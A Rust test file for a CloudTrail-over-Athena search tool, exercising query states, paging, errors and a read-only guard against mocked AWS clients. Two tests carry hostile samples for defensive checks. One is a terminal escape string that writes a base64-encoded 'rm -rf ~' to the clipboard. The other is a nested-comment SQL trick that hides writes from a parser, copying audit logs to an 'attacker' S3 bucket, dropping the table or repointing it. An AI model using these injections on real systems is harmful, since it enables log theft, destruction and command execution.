//! CloudTrail search through `AthenaTrail` on the SDK's own mock layer (aws-smithy-mocks):
//! moto runs every query to SUCCEEDED at once, so the state sequences, failures, throttling and
//! paging are played here. Real Athena clients, real serialisation; answers from rules.
//! - QUEUED -> RUNNING -> QUEUED -> RUNNING -> SUCCEEDED, then three pages chained by
//!   NextToken: every row in order, the header taken off once, NULL kept as NULL;
//! - FAILED with Athena's reason; a cancel sent with the id, then CANCELLED;
//! - throttled polls are `Throttled`, and the next poll goes on; denied calls name the action;
//!   a refused statement keeps Athena's message;
//! - StartQueryExecution carries the token, workgroup, database, catalog, reuse and output
//!   location exactly when they are set;
//! - read-only mode lets a search through and still refuses Athena's writes;
//! - escape sequences in anything Athena says come back sanitised.
//!
//! The clients' own retries are off: one poll is one request, so a rule's answers map to
//! polls one to one (the console's clients retry throttling before it reaches the trail).

use aws_sdk_athena::operation::create_work_group::CreateWorkGroupOutput;
use aws_sdk_athena::operation::get_query_execution::{
    GetQueryExecutionError, GetQueryExecutionOutput,
};
use aws_sdk_athena::operation::get_query_results::GetQueryResultsOutput;
use aws_sdk_athena::operation::start_query_execution::{
    StartQueryExecutionError, StartQueryExecutionInput, StartQueryExecutionOutput,
};
use aws_sdk_athena::operation::stop_query_execution::StopQueryExecutionOutput;
use aws_sdk_athena::types::error::InvalidRequestException;
use aws_sdk_athena::types::{
    ColumnInfo, Datum, QueryExecution, QueryExecutionState, QueryExecutionStatistics,
    QueryExecutionStatus, ResultReuseInformation, ResultSet, ResultSetMetadata, Row, StatementType,
};
use aws_smithy_mocks::{Rule, RuleMode, mock, mock_client};
use aws_smithy_types::error::ErrorMetadata;
use aws_smithy_types::retry::RetryConfig;
use sagewatch::sanitize::needs_replacing;
use sagewatch::source::SourceError;
use sagewatch::source::aws::athena::AthenaTrail;
use sagewatch::source::aws::readonly::ReadOnlyGuard;
use sagewatch::source::trail::{
    QueryState, QueryStatus, ResultPage, Search, TrailQuery, TrailSettings, TrailSource,
    first_row_is_header, poll_delay,
};
use std::sync::{Arc, Mutex};

const ID: &str = "0b6f0c7e-1f7a-4f0e-9d3a-5c1b2a3d4e5f";
const TOKEN: &str = "sagewatch-0123456789abcdef0123456789abcdef";
const SQL: &str =
    "SELECT eventtime, eventname FROM \"AwsDataCatalog\".\"trail\".\"cloudtrail_logs\" LIMIT 500";

fn settings() -> TrailSettings {
    TrailSettings {
        catalog: "AwsDataCatalog".into(),
        database: "trail".into(),
        table: "cloudtrail_logs".into(),
        workgroup: "oncall".into(),
        output_location: Some("s3://athena-results/sagewatch/".into()),
        reuse_minutes: 15,
        ..TrailSettings::default()
    }
}

fn query() -> TrailQuery {
    TrailQuery {
        sql: SQL.into(),
        search: Search::Raw,
        token: TOKEN.into(),
    }
}

/// A trail on `rules`, without retries; `guard` adds the read-only interceptor as `connect`
/// does in read-only mode.
fn trail_with(rules: &[&Rule], settings: TrailSettings, guard: bool) -> AthenaTrail {
    let client = if guard {
        mock_client!(aws_sdk_athena, RuleMode::MatchAny, rules, |c| c
            .retry_config(RetryConfig::disabled())
            .interceptor(ReadOnlyGuard))
    } else {
        mock_client!(aws_sdk_athena, RuleMode::MatchAny, rules, |c| c
            .retry_config(RetryConfig::disabled()))
    };
    AthenaTrail::new(client, settings)
}

fn trail(rules: &[&Rule]) -> AthenaTrail {
    trail_with(rules, settings(), false)
}

fn started() -> Rule {
    mock!(aws_sdk_athena::Client::start_query_execution).then_output(|| {
        StartQueryExecutionOutput::builder()
            .query_execution_id(ID)
            .build()
    })
}

fn execution(state: QueryExecutionState, reason: Option<&str>) -> GetQueryExecutionOutput {
    GetQueryExecutionOutput::builder()
        .query_execution(
            QueryExecution::builder()
                .query_execution_id(ID)
                .query(SQL)
                .statement_type(StatementType::Dml)
                .status(
                    QueryExecutionStatus::builder()
                        .state(state)
                        .set_state_change_reason(reason.map(str::to_owned))
                        .build(),
                )
                .statistics(
                    QueryExecutionStatistics::builder()
                        .data_scanned_in_bytes(52_428_800)
                        .total_execution_time_in_millis(2_345)
                        .result_reuse_information(
                            ResultReuseInformation::builder()
                                .reused_previous_result(false)
                                .build(),
                        )
                        .build(),
                )
                .build(),
        )
        .build()
}

/// GetQueryExecution answering these states in turn, for `ID` only.
fn states(states: &[QueryExecutionState], reason: Option<&'static str>) -> Rule {
    let mut seq = mock!(aws_sdk_athena::Client::get_query_execution)
        .match_requests(|r| r.query_execution_id() == Some(ID))
        .sequence();
    for s in states {
        let s = s.clone();
        seq = seq.output(move || execution(s.clone(), reason));
    }
    seq.build()
}

fn cell(v: Option<&str>) -> Datum {
    Datum::builder()
        .set_var_char_value(v.map(str::to_owned))
        .build()
}

fn row(cells: &[Option<&str>]) -> Row {
    Row::builder()
        .set_data(Some(cells.iter().map(|c| cell(*c)).collect()))
        .build()
}

fn metadata(columns: &[(&str, Option<&str>)]) -> ResultSetMetadata {
    ResultSetMetadata::builder()
        .set_column_info(Some(
            columns
                .iter()
                .map(|(name, label)| {
                    ColumnInfo::builder()
                        .name(*name)
                        .set_label(label.map(str::to_owned))
                        .r#type("varchar")
                        .build()
                        .expect("column")
                })
                .collect(),
        ))
        .build()
}

/// GetQueryResults for `ID` at `token` (`None`: the first page), answering `rows` and `next`.
fn results_page(
    token: Option<&'static str>,
    rows: Vec<Vec<Option<&'static str>>>,
    next: Option<&'static str>,
) -> Rule {
    mock!(aws_sdk_athena::Client::get_query_results)
        .match_requests(move |r| {
            r.query_execution_id() == Some(ID)
                && r.next_token() == token
                && r.max_results() == Some(1000)
        })
        .then_output(move || {
            GetQueryResultsOutput::builder()
                .result_set(
                    ResultSet::builder()
                        .result_set_metadata(metadata(&[
                            ("eventtime", None),
                            ("eventname", Some("event")),
                        ]))
                        .set_rows(Some(rows.iter().map(|r| row(r)).collect()))
                        .build(),
                )
                .set_next_token(next.map(str::to_owned))
                .build()
        })
}

fn service(code: &str, message: &str) -> ErrorMetadata {
    ErrorMetadata::builder().code(code).message(message).build()
}

/// Polls to a finished state as the view does (without its waits), then reads every page.
async fn run(trail: &AthenaTrail) -> (Vec<QueryState>, QueryStatus, Vec<ResultPage>) {
    let id = trail.start(&query()).await.expect("started");
    assert_eq!(id, ID);
    let mut seen = Vec::new();
    let mut n = 0;
    let status = loop {
        let status = trail.status(&id).await.expect("status");
        seen.push(status.state);
        if status.state.is_finished() {
            break status;
        }
        // The view waits `poll_delay(n)`; the test only checks that it is bounded.
        assert!(poll_delay(n) <= std::time::Duration::from_secs(5));
        n += 1;
        assert!(n < 20, "the poll never ended: {seen:?}");
    };
    let mut pages = Vec::new();
    if status.state == QueryState::Succeeded {
        let header = first_row_is_header(&status, SQL);
        let mut next: Option<String> = None;
        loop {
            let first = next.is_none();
            let page = trail
                .page(&id, next.as_deref(), header && first)
                .await
                .expect("page");
            next = page.next.clone();
            pages.push(page);
            if next.is_none() {
                break;
            }
            assert!(pages.len() < 10, "pages never ended");
        }
    }
    (seen, status, pages)
}

#[tokio::test]
async fn a_query_goes_back_to_queued_finishes_and_streams_three_pages_in_order() {
    use QueryExecutionState as S;
    let start = started();
    let polls = states(
        &[S::Queued, S::Running, S::Queued, S::Running, S::Succeeded],
        None,
    );
    let p1 = results_page(
        None,
        vec![
            vec![Some("eventtime"), Some("eventname")],
            vec![Some("2024-05-01T10:00:03Z"), Some("UpdateEndpoint")],
            vec![Some("2024-05-01T10:00:02Z"), Some("CreateEndpointConfig")],
        ],
        Some("page-2"),
    );
    let p2 = results_page(
        Some("page-2"),
        vec![vec![Some("2024-05-01T09:59:00Z"), Some("CreateModel")]],
        Some("page-3"),
    );
    // A later page has no header row: its first row is data, and stays.
    let p3 = results_page(
        Some("page-3"),
        vec![
            vec![Some("eventtime"), Some("eventname")],
            vec![Some("2024-05-01T09:58:00Z"), None],
        ],
        None,
    );
    let t = trail(&[&start, &polls, &p1, &p2, &p3]);
    let (seen, status, pages) = run(&t).await;
    assert_eq!(
        seen,
        [
            QueryState::Queued,
            QueryState::Running,
            QueryState::Queued,
            QueryState::Running,
            QueryState::Succeeded
        ]
    );
    assert_eq!(status.scanned_bytes, 52_428_800);
    assert_eq!(status.total_millis, Some(2_345));
    assert!(!status.reused);
    assert_eq!(status.statement_type.as_deref(), Some("DML"));
    assert_eq!(status.reason, None);
    assert_eq!(pages.len(), 3);
    // Names on the first page only; a label wins over the name.
    assert_eq!(pages[0].columns, ["eventtime", "event"]);
    assert!(pages[1].columns.is_empty() && pages[2].columns.is_empty());
    let rows: Vec<Vec<Option<String>>> = pages.into_iter().flat_map(|p| p.rows).collect();
    let some = |s: &str| Some(s.to_owned());
    assert_eq!(
        rows,
        vec![
            vec![some("2024-05-01T10:00:03Z"), some("UpdateEndpoint")],
            vec![some("2024-05-01T10:00:02Z"), some("CreateEndpointConfig")],
            vec![some("2024-05-01T09:59:00Z"), some("CreateModel")],
            vec![some("eventtime"), some("eventname")],
            vec![some("2024-05-01T09:58:00Z"), None],
        ]
    );
    assert_eq!(polls.num_calls(), 5);
    assert_eq!((p1.num_calls(), p2.num_calls(), p3.num_calls()), (1, 1, 1));
}

#[tokio::test]
async fn a_failed_query_carries_athenas_reason() {
    use QueryExecutionState as S;
    let start = started();
    let polls = states(
        &[S::Running, S::Failed],
        Some(
            "TABLE_NOT_FOUND: line 1:15: Table 'awsdatacatalog.trail.cloudtrail_logs' does not exist",
        ),
    );
    let results = results_page(None, vec![], None);
    let t = trail(&[&start, &polls, &results]);
    let (seen, status, pages) = run(&t).await;
    assert_eq!(seen, [QueryState::Running, QueryState::Failed]);
    assert_eq!(
        status.reason.as_deref(),
        Some(
            "TABLE_NOT_FOUND: line 1:15: Table 'awsdatacatalog.trail.cloudtrail_logs' does not exist"
        )
    );
    assert!(pages.is_empty());
    assert_eq!(
        results.num_calls(),
        0,
        "no results of a failed query are asked for"
    );
}

#[tokio::test]
async fn a_cancel_stops_the_query_by_id_and_the_next_poll_says_cancelled() {
    use QueryExecutionState as S;
    let start = started();
    let polls = states(&[S::Running, S::Cancelled], None);
    let stop = mock!(aws_sdk_athena::Client::stop_query_execution)
        .match_requests(|r| r.query_execution_id() == Some(ID))
        .then_output(|| StopQueryExecutionOutput::builder().build());
    let t = trail(&[&start, &polls, &stop]);
    let id = t.start(&query()).await.expect("started");
    assert_eq!(
        t.status(&id).await.expect("status").state,
        QueryState::Running
    );
    t.cancel(&id).await.expect("cancelled");
    assert_eq!(stop.num_calls(), 1);
    assert_eq!(
        t.status(&id).await.expect("status").state,
        QueryState::Cancelled
    );
}

#[tokio::test]
async fn a_throttled_poll_is_throttled_and_the_next_one_goes_on() {
    let start = started();
    let polls = mock!(aws_sdk_athena::Client::get_query_execution)
        .sequence()
        .error(|| GetQueryExecutionError::generic(service("ThrottlingException", "Rate exceeded")))
        .times(2)
        .output(|| execution(QueryExecutionState::Running, None))
        .output(|| execution(QueryExecutionState::Succeeded, None))
        .build();
    let t = trail(&[&start, &polls]);
    let id = t.start(&query()).await.expect("started");
    for _ in 0..2 {
        let err = t.status(&id).await.expect_err("throttled");
        assert!(
            matches!(&err, SourceError::Throttled { call } if call == "GetQueryExecution"),
            "{err:?}"
        );
    }
    assert_eq!(
        t.status(&id).await.expect("status").state,
        QueryState::Running
    );
    assert_eq!(
        t.status(&id).await.expect("status").state,
        QueryState::Succeeded
    );
    assert_eq!(polls.num_calls(), 4);
}

#[tokio::test]
async fn denied_calls_name_the_athena_action_and_refused_sql_keeps_its_message() {
    let denied = mock!(aws_sdk_athena::Client::start_query_execution).then_error(|| {
        StartQueryExecutionError::generic(service(
            "AccessDeniedException",
            "User is not authorized to perform: athena:StartQueryExecution",
        ))
    });
    let err = trail(&[&denied]).start(&query()).await.expect_err("denied");
    assert!(
        matches!(&err, SourceError::AccessDenied { action, .. } if action == "athena:StartQueryExecution"),
        "{err:?}"
    );

    let bad_sql = mock!(aws_sdk_athena::Client::start_query_execution).then_error(|| {
        StartQueryExecutionError::InvalidRequestException(
            InvalidRequestException::builder()
                .message("line 1:8: mismatched input 'FORM'.\nExpecting: ',', 'FROM'\u{1b}[2J")
                .build(),
        )
    });
    let err = trail(&[&bad_sql])
        .start(&query())
        .await
        .expect_err("refused");
    let SourceError::Other { call, detail } = &err else {
        panic!("{err:?}");
    };
    assert_eq!(call, "StartQueryExecution");
    assert_eq!(
        detail,
        "line 1:8: mismatched input 'FORM'. Expecting: ',', 'FROM'\u{FFFD}[2J"
    );

    let denied = mock!(aws_sdk_athena::Client::get_query_results).then_error(|| {
        aws_sdk_athena::operation::get_query_results::GetQueryResultsError::generic(service(
            "AccessDeniedException",
            "no",
        ))
    });
    let err = trail(&[&denied])
        .page(ID, None, true)
        .await
        .expect_err("denied");
    assert!(
        matches!(&err, SourceError::AccessDenied { action, .. } if action == "athena:GetQueryResults"),
        "{err:?}"
    );
}

/// A StartQueryExecution rule that keeps the request it was sent.
fn recording(into: Arc<Mutex<Vec<StartQueryExecutionInput>>>) -> Rule {
    mock!(aws_sdk_athena::Client::start_query_execution)
        .match_requests(move |r| {
            into.lock().unwrap().push(r.clone());
            true
        })
        .then_output(|| {
            StartQueryExecutionOutput::builder()
                .query_execution_id(ID)
                .build()
        })
}

#[tokio::test]
async fn the_start_request_carries_what_the_settings_set_and_nothing_else() {
    let sent = Arc::new(Mutex::new(Vec::new()));
    let rule = recording(sent.clone());
    trail(&[&rule]).start(&query()).await.expect("started");
    let r = sent.lock().unwrap().pop().expect("sent");
    assert_eq!(r.query_string(), Some(SQL));
    assert_eq!(r.client_request_token(), Some(TOKEN));
    assert_eq!(r.work_group(), Some("oncall"));
    let context = r.query_execution_context().expect("context");
    assert_eq!(context.database(), Some("trail"));
    assert_eq!(context.catalog(), Some("AwsDataCatalog"));
    assert_eq!(
        r.result_configuration().and_then(|c| c.output_location()),
        Some("s3://athena-results/sagewatch/")
    );
    let reuse = r
        .result_reuse_configuration()
        .and_then(|c| c.result_reuse_by_age_configuration())
        .expect("reuse");
    assert!(reuse.enabled());
    assert_eq!(reuse.max_age_in_minutes(), Some(15));
    assert!(r.execution_parameters().is_empty());

    // Reuse off and the workgroup's own output location: neither is sent.
    let plain = TrailSettings {
        output_location: None,
        reuse_minutes: 0,
        ..settings()
    };
    let rule = recording(sent.clone());
    trail_with(&[&rule], plain, false)
        .start(&query())
        .await
        .expect("started");
    let r = sent.lock().unwrap().pop().expect("sent");
    assert!(r.result_configuration().is_none(), "{r:?}");
    assert!(r.result_reuse_configuration().is_none(), "{r:?}");
    assert_eq!(r.client_request_token(), Some(TOKEN));
}

#[tokio::test]
async fn read_only_lets_a_search_through_and_refuses_athenas_writes() {
    use QueryExecutionState as S;
    let start = started();
    let polls = states(&[S::Running], None);
    let stop = mock!(aws_sdk_athena::Client::stop_query_execution)
        .then_output(|| StopQueryExecutionOutput::builder().build());
    let results = results_page(None, vec![vec![Some("h")], vec![Some("v")]], None);
    let create = mock!(aws_sdk_athena::Client::create_work_group)
        .then_output(|| CreateWorkGroupOutput::builder().build());
    let client = mock_client!(
        aws_sdk_athena,
        RuleMode::MatchAny,
        [&start, &polls, &stop, &results, &create],
        |c| c
            .retry_config(RetryConfig::disabled())
            .interceptor(ReadOnlyGuard)
    );
    let t = AthenaTrail::new(client.clone(), settings());
    let id = t.start(&query()).await.expect("read-only still searches");
    t.status(&id).await.expect("polls");
    let page = t.page(&id, None, true).await.expect("reads");
    assert_eq!(page.rows, vec![vec![Some("v".to_owned())]]);
    t.cancel(&id)
        .await
        .expect("read-only still cancels its search");
    assert_eq!(
        (start.num_calls(), stop.num_calls(), results.num_calls()),
        (1, 1, 1)
    );

    let refused = client.create_work_group().name("mine").send().await;
    let err = refused.expect_err("a write in read-only mode");
    assert!(
        format!(
            "{}",
            aws_smithy_types::error::display::DisplayErrorContext(&err)
        )
        .contains("read-only: CreateWorkGroup refused"),
        "{err:?}"
    );
    assert_eq!(create.num_calls(), 0, "nothing was sent");
}

#[tokio::test]
async fn escape_sequences_from_athena_come_back_sanitised() {
    let start = started();
    let hostile = mock!(aws_sdk_athena::Client::get_query_execution).then_output(|| {
        execution(
            QueryExecutionState::Failed,
            Some("\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2Jboom\u{9b}31m\u{202e}"),
        )
    });
    let page = mock!(aws_sdk_athena::Client::get_query_results).then_output(|| {
        GetQueryResultsOutput::builder()
            .result_set(
                ResultSet::builder()
                    .result_set_metadata(metadata(&[("a\u{1b}[31m", None), ("b", Some("\u{7}"))]))
                    .rows(row(&[Some("header"), Some("row")]))
                    .rows(row(&[Some("\u{1b}[2J\u{1b}[H"), Some("ok\r\nnext")]))
                    .build(),
            )
            .next_token("t\u{1b}")
            .build()
    });
    let t = trail(&[&start, &hostile, &page]);
    let status = t.status(ID).await.expect("status");
    let reason = status.reason.expect("reason");
    assert!(!reason.chars().any(needs_replacing), "{reason:?}");
    assert!(reason.contains("boom"), "{reason:?}");

    let page = t.page(ID, None, true).await.expect("page");
    let mut strings: Vec<String> = page.columns.clone();
    strings.extend(page.rows.iter().flatten().flatten().cloned());
    strings.extend(page.next.clone());
    for s in &strings {
        assert!(!s.chars().any(needs_replacing), "{s:?}");
    }
    assert_eq!(page.rows[0][1].as_deref(), Some("ok  next"));
}

#[tokio::test]
async fn the_aws_source_searches_the_trail_only_when_it_has_one() {
    use sagewatch::source::FleetSource;
    use sagewatch::source::aws::{AccountClients, AwsSource, Topology};
    use sagewatch::source::health::Health;
    use sagewatch::source::model::Identity;
    let source = || {
        AwsSource::from_clients(
            Identity {
                account_id: "100000000000".into(),
                arn: "arn:aws:iam::100000000000:role/OnCall".into(),
                region: "eu-west-1".into(),
            },
            Topology::Fanout,
            AccountClients {
                cloudwatch: mock_client!(aws_sdk_cloudwatch, []),
                sagemaker: mock_client!(aws_sdk_sagemaker, []),
                s3: mock_client!(aws_sdk_s3, []),
                scaling: mock_client!(aws_sdk_applicationautoscaling, []),
            },
            Default::default(),
            Vec::new(),
            Health::default(),
        )
    };
    assert!(source().trail().is_none(), "no [trail]: no trail view");

    let start = started();
    let with = source().with_trail(Some(trail(&[&start])));
    let id = with
        .trail()
        .expect("a trail")
        .start(&query())
        .await
        .expect("started");
    assert_eq!(id, ID);
    assert_eq!(start.num_calls(), 1);
}

/// The write: a CTAS that sqlparser's generic dialect read as a comment (its
/// comments nest) and Athena's engine runs (Trino ends a comment at the first `*/`).
const HIDDEN_CTAS: &str = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'";

#[tokio::test]
async fn read_only_refuses_writes_hidden_from_the_checker_before_they_are_sent() {
    let sent = Arc::new(Mutex::new(Vec::new()));
    let rule = recording(sent.clone());
    let t = trail_with(&[&rule], settings(), true);
    let writes = [
        HIDDEN_CTAS.to_owned(),
        HIDDEN_CTAS.replace(
            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
            "DROP TABLE cloudtrail_logs",
        ),
        HIDDEN_CTAS.replace(
            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
            "ALTER TABLE cloudtrail_logs SET LOCATION 's3://attacker/x/'",
        ),
        HIDDEN_CTAS.replace(
            "CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs",
            "MSCK REPAIR TABLE cloudtrail_logs",
        ),
        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a".to_owned(),
    ];
    for sql in writes {
        let q = TrailQuery {
            sql: sql.clone(),
            ..query()
        };
        let err = t.start(&q).await.expect_err("a write in read-only mode");
        assert!(
            err.to_string()
                .contains("read-only: StartQueryExecution refused"),
            "{sql}: {err}"
        );
    }
    assert_eq!(rule.num_calls(), 0, "nothing reached the wire");
    assert!(sent.lock().unwrap().is_empty());
    // A read still goes.
    let read = TrailQuery {
        sql: "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'".into(),
        ..query()
    };
    t.start(&read).await.expect("a read in read-only mode");
    assert_eq!(sent.lock().unwrap().len(), 1);
}
